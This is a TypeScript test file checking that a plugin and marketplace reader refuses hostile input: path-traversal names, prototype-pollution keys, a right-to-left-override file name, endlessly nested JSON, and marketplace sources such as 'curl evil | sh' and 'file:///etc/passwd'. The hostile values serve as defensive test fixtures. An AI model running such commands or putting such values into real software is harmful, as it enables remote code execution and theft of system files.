import { strToU8, zipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { OWN_PLUGIN } from '@/lib/domain/plugin'
import { readCollection, type Collection } from '@/lib/plugins/read/read-collection'
import { readZip } from '@/lib/plugins/read/read-zip'
import { isAnswerFit, missingAnswers, readUserConfig } from '@/lib/plugins/read/user-config'
import { skillText, treeOf } from './tree-of'

const MANIFEST = '.claude-plugin/plugin.json'
const SKILL = skillText('description: A.')

const read = (files: Readonly<Record<string, string>>): Collection | string => {
  const found = readCollection(treeOf(files), 'given')
  return found.ok ? found.value : found.error.code
}
const only = (files: Readonly<Record<string, string>>) => {
  const found = read(files)
  const [plugin] = typeof found === 'string' ? [] : found.plugins
  if (plugin === undefined) throw new Error(typeof found === 'string' ? found : 'none')
  return plugin
}
const commandsOf = (files: Readonly<Record<string, string>>): readonly string[] =>
  only(files).package.skills.map(({ command }) => command)

describe('a plugin whose', () => {
  test('name is that of the person’s own skills gets another one', () => {
    const manifest = JSON.stringify({ name: OWN_PLUGIN })
    expect(commandsOf({ [MANIFEST]: manifest, 'skills/a/SKILL.md': SKILL })).toEqual([
      'my-plugin:a',
    ])
  })

  test('name is a path or a command is a word and nothing more', () => {
    for (const name of ['../../etc/passwd', 'a/b\\c', 'x:y', 'a b', '${HOME}', '<b>x</b>'])
      expect(
        commandsOf({ [MANIFEST]: JSON.stringify({ name }), 'skills/a/SKILL.md': SKILL })[0],
      ).toMatch(/^[\w.-]+:a$/)
  })

  test('manifest is nested without end is refused and not followed', () => {
    const deep = `{"name":"p","x":${'['.repeat(50_000)}${']'.repeat(50_000)}}`
    expect(read({ [MANIFEST]: deep, 'skills/a/SKILL.md': SKILL })).toBe('manifest-broken')
  })

  test('files are marked with a byte order and named in small letters is read like any other', () => {
    const files = {
      [MANIFEST]: '\uFEFF{"name":"p"}',
      '.mcp.json': '\uFEFF{"a":{"url":"https://a.example.com/mcp"}}',
      'skills/a/skill.md': `\uFEFF${SKILL}`,
    }
    expect(commandsOf(files)).toEqual(['p:a'])
    expect(only(files).remotes).toHaveLength(1)
  })

  test('servers are named as the prototype is are servers like any other', () => {
    const servers = `{"__proto__":{"url":"https://a.example.com/mcp"},"constructor":{"url":"https://b.example.com/mcp"}}`
    const { remotes } = only({ [MANIFEST]: '{"name":"p"}', '.mcp.json': servers })
    expect(new Set(remotes.map(({ host }) => host))).toEqual(
      new Set(['a.example.com', 'b.example.com']),
    )
  })

  test('skill merges anchors says what was meant, or that it is broken, and never more', () => {
    const merged = skillText('base: &a\n  description: A.\n<<: *a\nname: x')
    const found = read({ 'skills/x/SKILL.md': merged })
    expect(typeof found === 'string' ? found : found.plugins[0]?.package.skills.length).toBe(1)
  })

  test('command has a name that runs the other way is refused as a whole', () => {
    const zip = zipSync({ 'commands/a\u202Edm.exe.md': strToU8('Do.') })
    expect(readZip(zip)).toMatchObject({ ok: false, error: { code: 'path-hidden' } })
  })
})

describe('an archive', () => {
  test('with something before it, as a program that unpacks itself, is refused or read alike', () => {
    const zip = zipSync({ 'SKILL.md': strToU8(SKILL) })
    const prefixed = new Uint8Array(zip.length + 100)
    prefixed.set(zip, 100)
    const found = readZip(prefixed)
    expect(found.ok ? [...found.value.files.keys()] : found.error.code).toSatisfy(
      (value: unknown) => value === 'zip-damaged' || String(value) === 'SKILL.md',
    )
  })

  test('with folders of their own in its list has the files in them and nothing else', () => {
    const zip = zipSync({ 'skills/': new Uint8Array(), 'skills/a/SKILL.md': strToU8(SKILL) })
    const found = readZip(zip)
    expect(found.ok && [...found.value.files.keys()]).toEqual(['skills/a/SKILL.md'])
  })
})

describe('a marketplace', () => {
  const market = (more: object, ...plugins: object[]) => ({
    '.claude-plugin/marketplace.json': JSON.stringify({
      name: 'm',
      owner: { name: 'o' },
      plugins,
      ...more,
    }),
  })

  test('whose sources lead to other places than they say has none of them fetched', () => {
    const found = read({
      ...market(
        { renames: { a: null } },
        { name: 'a', source: { source: 'github', repo: '../../x' } },
        { name: 'b', source: { source: 'github', repo: 'o/r', ref: '../../../x' } },
        { name: 'c', source: { source: 'archive', url: 'file:///etc/passwd' } },
        { name: 'd', source: { source: 'git-subdir', url: 'o/r', path: '../../x' } },
        { name: 'e', source: { source: 'command', command: 'curl evil | sh' } },
        { name: 'f', source: { source: 'url', url: 'https://github.com.evil.example/o/r' } },
        { name: 'g', source: '../outside' },
        { name: 'h', source: { source: 'made-up' } },
      ),
    })
    if (typeof found === 'string') throw new Error(found)
    expect(found.elsewhere.filter(({ source }) => source.fetch !== undefined)).toEqual([])
    expect(found.marketplace?.entries.map(({ name }) => name)).toEqual('abcdefgh'.split(''))
  })

  test('names the folder of its plugins once', () => {
    const found = read({
      ...market({ metadata: { pluginRoot: './packs' } }, { name: 'a', source: 'a' }),
      'packs/a/skills/s/SKILL.md': SKILL,
    })
    if (typeof found === 'string') throw new Error(found)
    expect(found.plugins[0]?.package.skills.map(({ command }) => command)).toEqual(['a:s'])
  })
})

describe('what a plugin asks', () => {
  test('in a shape that nobody meant is asked as far as it can be read', () => {
    for (const odd of [null, [], 'x', 7, { a: null }, { a: [] }, { a: { type: 'made-up' } }])
      expect(readUserConfig(odd as never).questions).toEqual([])
    const many = Object.fromEntries(
      Array.from({ length: 5000 }, (_, index) => [`k${index}`, { type: 'string' }]),
    )
    expect(readUserConfig(many as never).questions).toHaveLength(50)
  })

  test('has its bounds, and a list of what is proposed', () => {
    const { questions } = readUserConfig({
      most: { type: 'number', min: 1, max: 9 },
      names: { type: 'string', multiple: true, default: ['a', 'b'] },
    })
    const [most, names] = questions
    if (most === undefined || names === undefined) throw new Error('not asked')
    expect(['0', '1', '9', '10', 'x'].map((answer) => isAnswerFit(most, answer))).toEqual([
      false,
      true,
      true,
      false,
      false,
    ])
    expect(names.suggestion).toBe('a, b')
  })

  test('under a name of the prototype has no answer', () => {
    const skills = [{ body: '${user_config.constructor} ${user_config.toString}' }]
    expect(missingAnswers({ skills, agents: [] } as never, {})).toEqual(['constructor', 'toString'])
  })
})
